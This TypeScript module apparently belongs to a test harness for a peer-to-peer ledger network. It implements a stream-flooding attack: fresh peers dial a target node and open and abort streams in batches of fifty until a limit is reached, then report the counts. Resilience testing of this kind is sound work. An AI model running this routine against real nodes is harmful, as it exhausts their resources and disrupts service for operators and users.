import { multiaddr } from '@multiformats/multiaddr'
import { NETWORK } from '../../../test/core/author.js'
import { within } from '../../../test/network/fixture.js'
import { stranger, type Target } from '../attack.js'

export async function unusedStreams({ addr, streams }: Target, over: () => boolean): Promise<string> {
  let [opened, refused] = [0, 0]
  while (!over() && opened < streams) {
    const node = await stranger()
    try {
      const connection = await node.dial(multiaddr(addr), { signal: within(10_000) })
      while (!over() && opened < streams && connection.status === 'open') {
        await Promise.allSettled(
          Array.from({ length: 50 }, async () => {
            opened++
            const stream = await connection.newStream(`/ledgermesh/${NETWORK}/pull/1`, {
              signal: within(5_000),
              maxOutboundStreams: 10_000
            })
            stream.abort(new Error('next'))
          })
        )
      }
    } catch {
      refused++
    }
    await node.stop()
  }
  return `${opened} streams, ${refused} dials refused`
}
